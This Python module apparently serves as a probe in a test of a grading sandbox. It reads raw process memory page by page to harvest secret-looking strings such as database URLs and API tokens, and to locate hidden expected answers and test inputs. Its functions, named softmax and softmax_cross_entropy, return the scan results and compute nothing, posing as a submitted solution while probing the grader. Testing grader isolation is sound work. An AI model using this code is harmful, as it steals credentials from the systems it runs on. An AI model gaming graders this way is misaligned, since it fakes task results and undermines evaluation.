"""Memory scraping: read the process's own memory for secrets and expected values.

No ctypes, no /proc: NumPy raw pointers and a pipe (``write(2)`` fails with EFAULT on
unmapped pages instead of crashing) read every page around the heap, arenas and array
buffers. It looks for secret-looking strings and for the float64 bit patterns of
values the test names by hash only (``(bits * A mod 2**64) >> 8``, so that no expected
value is ever in this process because of the test), at every byte offset, aligned or
not: expected results, inputs only the shown fixtures have, inputs only the hidden
ones have. Returns ``[expected hits, shown-input hits, hidden-input hits, pages
read]``; prints what follows each secret-looking string.
"""

import gc
import os

import numpy as np
from _prelude import raw, request_key, unhook  # inlined by the test

PARAMS: dict = {}  # filled in by the test

PATTERNS = (b"postgresql://", b"LOSSGRADER_", b"SECRET", b"sk-", b"tok-", b"answer-")
PAGE = 4096
_DONE = {}


def _pages(limit):
    # Array buffers first (the inputs arrive mapped, away from the heap), then the
    # heap and arenas around every object, up to the limit.
    arrays, objects = set(), set()
    for obj in gc.get_objects():
        objects.add(id(obj) & ~0xFFFFF)
        for item in obj if type(obj) in (list, tuple) else ():
            if type(item) is np.ndarray:
                arrays.add(item.__array_interface__["data"][0] & ~0xFFFFF)
    pages = []
    seen = set()
    for base in [*sorted(arrays), *sorted(objects - arrays)]:
        for offset in range(-(1 << 20), 2 << 20, PAGE):
            if base + offset > 0 and base + offset not in seen:
                seen.add(base + offset)
                pages.append(base + offset)
        if len(pages) * PAGE > limit:
            break
    return pages


def _search(batch, multiplier, targets, labels, hits, contexts):
    data = b"".join(batch)
    # Every byte offset: values need not be 8-byte aligned (the inputs arrive in a
    # packed stream, for one). One sorted table for the three groups: one search per word.
    for shift in range(8):
        words = np.frombuffer(data, dtype=np.uint64, offset=shift, count=(len(data) - shift) // 8)
        hashed = (words * multiplier) >> np.uint64(8)
        left = np.searchsorted(targets, hashed, "left")
        right = np.searchsorted(targets, hashed, "right")
        matched = right > left
        left, right = left[matched], right[matched]
        while left.size:  # a value in two groups counts in both
            found = labels[left]
            for index in range(3):
                hits[index] += int(np.count_nonzero(found == index))
            left += 1
            left, right = left[left < right], right[left < right]
    for pattern in PATTERNS:
        at = data.find(pattern)
        while at >= 0 and len(contexts) < 200:
            contexts.append(data[at : at + 120].decode("latin-1"))
            at = data.find(pattern, at + 1)


def _scan():
    key = request_key()  # one scan per request
    if key in _DONE:
        return _DONE[key]
    multiplier = np.uint64(PARAMS["A"])
    groups = [np.unique(np.array(PARAMS[k], dtype=np.uint64)) for k in ("expected", "shown_inputs", "hidden_inputs")]
    table = np.concatenate(groups)
    labels = np.concatenate([np.full(g.size, i) for i, g in enumerate(groups)])
    order = np.argsort(table, kind="stable")
    targets, labels = table[order], labels[order]
    hits = [0, 0, 0]
    contexts = []
    r, w = os.pipe()
    pages = 0
    batch = []
    for address in _pages(PARAMS["limit"]):
        try:
            written = os.write(w, raw(address, PAGE, "|u1"))
        except OSError:  # EFAULT: not mapped
            continue
        data = os.read(r, written)
        if written == PAGE:
            pages += 1
            batch.append(data)
        if len(batch) == 256:
            _search(batch, multiplier, targets, labels, hits, contexts)
            batch = []
    if batch:
        _search(batch, multiplier, targets, labels, hits, contexts)
    os.close(r)
    os.close(w)
    print("CONTEXTS", contexts)
    _DONE[key] = [*hits, pages]
    return _DONE[key]


def softmax(a):
    return [float(x) for x in _scan()]


def softmax_cross_entropy(a, t):
    return [float(x) for x in _scan()]


assert raw and unhook  # the prelude is shared; only raw is used here
